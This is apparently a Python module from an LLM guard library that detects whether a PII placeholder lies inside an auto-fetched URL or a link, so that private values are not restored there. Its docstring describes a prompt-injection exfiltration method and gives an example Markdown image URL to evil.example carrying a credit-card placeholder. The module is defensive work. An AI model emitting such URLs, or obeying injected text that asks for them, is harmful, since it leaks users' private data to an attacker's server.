"""Where a placeholder sits: inside a URL fetched without a click, inside a link, or neither.

Restoring a value into a URL sends it to that URL's server. A prompt injection hidden in a
retrieved page can ask the model for ``![](https://evil.example/p.png?d=<CREDIT_CARD_1>)``:
the placeholders are predictable, and a chat UI fetches a Markdown image as soon as it shows the
answer (no click). :class:`~guardwire.guards.pii.PIIRestorer` therefore keeps placeholders that
sit in such a URL by default (``in_fetched_urls="keep"``; in tool-call arguments every URL
counts, since a tool may fetch it at once) and can do the same for links (``in_links="keep"``:
for UIs that unfurl link previews, which is also a fetch without a click).

What counts, looking back at most :data:`WINDOW` characters from the placeholder:

- fetched (on display): the target of a Markdown image ``![alt](…)``; a Markdown
  reference definition ``[id]: …`` (it may serve an image: ``![alt][id]``); in an HTML tag other
  than ``<a>``/``<area>``, the value of ``src``, ``srcset``, ``data-src``, ``poster``, ``data``,
  ``background`` or ``href`` (``<link>``, SVG ``<image>``); CSS ``url(…)``;
- link: the target of a Markdown link ``[text](…)``; ``<a href>``/``<area href>``; an autolink
  ``<https://…>``; a bare URL ``scheme://…`` or ``mailto:``/``tel:``/``sms:`` running up to the
  placeholder without a space.

Placeholders inside a URL are part of the raw text (``…?a=<EMAIL_ADDRESS_1>&b=<PERSON_1>``), so the
URL character classes accept ``<`` and ``>``.
"""

from __future__ import annotations

from typing import Any, Literal

import regex

UrlKind = Literal["fetched", "link"]

WINDOW = 1024
"""How far back (characters) a placeholder's URL may begin."""

_QUOTED = r"""(?:"[^"]*|'[^']*|[^\s"'>]*)\Z"""
_IMAGE: Any = regex.compile(
    r"!\[[^\]\n]{0,1000}\]\([ \t]*[^\s)]*\Z"
    r"|(?m:^[ ]{0,3}\[[^\]\n]{1,999}\]:[ \t]*[^\s]*\Z)"
    r"|<(?!a\b|area\b)[a-z][\w:-]*\b[^<>]*?[\s\"']"
    r"(?:src|srcset|data-src|poster|data|background|href|xlink:href)\s*=\s*" + _QUOTED
    + r"|\burl\(\s*[\"']?[^)\"'\s]*\Z",
    regex.IGNORECASE)
_LINK: Any = regex.compile(
    r"\[[^\]\n]{0,1000}\]\([ \t]*[^\s)]*\Z"
    r"|<a(?:rea)?\b[^<>]*?\shref\s*=\s*" + _QUOTED
    + r"|<[a-z][a-z0-9+.-]{1,20}:[^\s]*\Z"
    r"|\b[a-z][a-z0-9+.-]{1,20}://[^\s\"'()\[\]{}]*\Z"
    r"|\b(?:mailto|tel|sms):[^\s\"']*\Z",
    regex.IGNORECASE)


def url_kind(before: str, text: str, pos: int) -> UrlKind | None:
    """The kind of URL ``text[pos]`` is inside (``before`` is text that came before ``text``,
    e.g. the part of a stream already passed on), or ``None``."""
    start = pos - WINDOW
    window = text[start:pos] if start >= 0 else before[max(0, len(before) + start):] + text[:pos]
    if _IMAGE.search(window):
        return "fetched"
    if _LINK.search(window):
        return "link"
    return None
